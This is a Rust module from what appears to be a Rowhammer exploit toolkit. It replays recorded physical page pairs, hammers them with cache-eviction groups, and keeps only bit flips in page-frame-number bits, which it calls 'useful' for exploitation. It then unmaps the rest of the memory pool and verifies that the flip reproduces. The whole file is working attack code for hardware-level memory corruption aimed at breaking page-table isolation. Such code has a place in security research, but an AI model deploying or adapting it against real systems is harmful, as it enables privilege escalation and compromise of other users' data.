//! Replaying recorded pairs in cache-eviction mode.
//!
//! [`replay`] takes the `RESULT PAIR` lines of an earlier run, locates the
//! recorded physical pages in a fresh [`CandidatePool`] and hammers each pair
//! through eviction groups instead of flush instructions. The first pair that
//! flips a useful bit wins: every other page of the pool is unmapped and the
//! flip is verified again on the remaining pages.

use std::ops::Range;

use crate::hammerer::{DEFAULT_EVICTORS, EvictionPlan, Hammering};
use crate::memory::{
    AggressorPtr, BitFlipDetector, BitFlipRecord, CandidatePool, FillPattern, KeptPages,
    PoolError, VictimRegion,
};
use crate::report::PairResult;
use crate::util::{PAGE_MASK, PFN_BITS};
use crate::victim::{MemCheck, VictimOrchestrator};
use log::{debug, info, warn};
use serde::{Deserialize, Serialize};
use thiserror::Error;

/// Reads per eviction group during replay.
pub const DEFAULT_REPLAY_ITERATIONS: u64 = 2_000_000;

/// Configuration of [`replay`].
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ReplayConfig {
    /// Rounds over each eviction group
    pub iterations: u64,
    /// Same-set addresses per eviction group
    pub evictors: usize,
    /// Hammer rounds after unmapping the rest of the pool
    pub verify_rounds: usize,
    /// Bits a flip must hit to be worth keeping
    pub useful_bits: Range<u32>,
    /// Passes over all targets before giving up
    pub passes: usize,
}

impl Default for ReplayConfig {
    fn default() -> Self {
        ReplayConfig {
            iterations: DEFAULT_REPLAY_ITERATIONS,
            evictors: DEFAULT_EVICTORS,
            verify_rounds: 10,
            useful_bits: PFN_BITS,
            passes: 1,
        }
    }
}

/// Errors of [`replay`].
#[derive(Debug, Error)]
pub enum ReplayError<HE: std::error::Error> {
    /// No target produced a useful flip.
    #[error("no usable bit flip among {targets} targets after {passes} passes")]
    NoUsableFlip {
        /// Number of targets
        targets: usize,
        /// Passes over the targets
        passes: usize,
    },
    /// The useful flip did not show up again after unmapping.
    #[error("flip at 0x{addr:x} bit {bit} not reproduced in {rounds} rounds")]
    NotReproducible {
        /// Virtual address of the flipped word
        addr: usize,
        /// Flipped bit
        bit: u32,
        /// Verification rounds run
        rounds: usize,
    },
    /// The hammerer failed.
    #[error("hammering failed: {0}")]
    HammerFault(HE),
    #[error(transparent)]
    #[allow(missing_docs)]
    Pool(#[from] PoolError),
}

/// A replayed pair that flipped a useful bit and reproduced it.
#[derive(Debug, Serialize)]
pub struct ReplayOutcome {
    /// The recorded pair
    pub target: PairResult,
    /// Flip observed during the initial hammer
    pub flip: BitFlipRecord,
    /// Verification rounds that reproduced the flip
    pub hits: usize,
    /// Verification rounds run
    pub rounds: usize,
    /// Pages left mapped, unmapped when the outcome is dropped
    #[serde(skip_serializing)]
    pub kept: KeptPages,
}

/// Replays `targets` on `pool`.
///
/// `make_hammer` turns the eviction plan of a pair into the hammerer used for
/// it, which is usually the plan itself.
///
/// # Errors
///
/// * [`ReplayError::NoUsableFlip`] if no target flipped a useful bit
/// * [`ReplayError::NotReproducible`] if the useful flip was not seen again
/// * [`ReplayError::Pool`] if unmapping the rest of the pool failed
/// * [`ReplayError::HammerFault`] if the hammerer failed
pub fn replay<H, F>(
    pool: CandidatePool,
    targets: &[PairResult],
    config: &ReplayConfig,
    make_hammer: F,
) -> Result<ReplayOutcome, ReplayError<H::Error>>
where
    H: Hammering,
    F: Fn(&EvictionPlan) -> H,
{
    let detector = BitFlipDetector {
        useful_bits: config.useful_bits.clone(),
        ..Default::default()
    };
    for pass in 0..config.passes {
        for (i, target) in targets.iter().enumerate() {
            let found = pool
                .find_page(target.agg1)
                .zip(pool.find_page(target.agg2))
                .zip(pool.find_page(target.victim));
            info!(
                "Entry {}: 0x{:09x}, 0x{:09x}, 0x{:09x} - {}",
                i,
                target.agg1,
                target.agg2,
                target.victim,
                if found.is_some() { "found" } else { "missing" }
            );
            let Some(((agg1, agg2), victim)) = found else {
                continue;
            };
            let aggressors = [agg1 as AggressorPtr, agg2 as AggressorPtr];
            let plan = match EvictionPlan::build(
                &pool,
                &aggressors,
                config.evictors,
                config.iterations,
            ) {
                Ok(plan) => plan,
                Err(e) => {
                    warn!("Entry {}: cannot build eviction groups: {}", i, e);
                    continue;
                }
            };
            let hammerer = make_hammer(&plan);
            let victim_page = (victim as usize & !PAGE_MASK) as *mut u8;
            let mut memcheck = MemCheck::new(
                VictimRegion::from_pages(vec![victim_page]),
                detector.clone(),
            );
            let Some(flip) = initial_hammer(&hammerer, &mut memcheck, &aggressors)? else {
                debug!("Entry {}: no flip in pass {}", i, pass);
                continue;
            };
            if !flip.useful {
                info!("  We don't know how to exploit a flip in bit {}", flip.bit);
                continue;
            }
            info!("Useful bit flip in bit {}, unmapping all other pages", flip.bit);
            let mut keep = plan.pages();
            keep.extend([agg1 as AggressorPtr, agg2 as AggressorPtr, victim_page as AggressorPtr]);
            let kept = pool.unmap_except(&keep)?;
            let pattern = FillPattern::for_flip_to(flip.flips_to());
            let mut hits = 0;
            for round in 0..config.verify_rounds {
                memcheck.init(pattern);
                hammerer
                    .hammer(&aggressors)
                    .map_err(ReplayError::HammerFault)?;
                let reproduced = memcheck
                    .check()
                    .iter()
                    .any(|f| f.addr == flip.addr && f.bit == flip.bit);
                debug!("Retry {}: reproduced={}", round, reproduced);
                hits += reproduced as usize;
            }
            info!("Got {} hits out of {}", hits, config.verify_rounds);
            if hits == 0 {
                return Err(ReplayError::NotReproducible {
                    addr: flip.addr,
                    bit: flip.bit,
                    rounds: config.verify_rounds,
                });
            }
            return Ok(ReplayOutcome {
                target: *target,
                flip,
                hits,
                rounds: config.verify_rounds,
                kept,
            });
        }
    }
    Err(ReplayError::NoUsableFlip {
        targets: targets.len(),
        passes: config.passes,
    })
}

/// Hammers with an all-zero and then an all-one victim, returning the first flip.
fn initial_hammer<H: Hammering, V: VictimOrchestrator>(
    hammerer: &H,
    victim: &mut V,
    aggressors: &[AggressorPtr],
) -> Result<Option<BitFlipRecord>, ReplayError<H::Error>> {
    for pattern in [FillPattern::Zero, FillPattern::One] {
        victim.init(pattern);
        hammerer
            .hammer(aggressors)
            .map_err(ReplayError::HammerFault)?;
        if let Some(flip) = victim.check().into_iter().next() {
            info!(
                "  Flip at offset 0x{:x}: changed bit {} to {}",
                flip.offset,
                flip.bit,
                flip.flips_to()
            );
            return Ok(Some(flip));
        }
    }
    Ok(None)
}
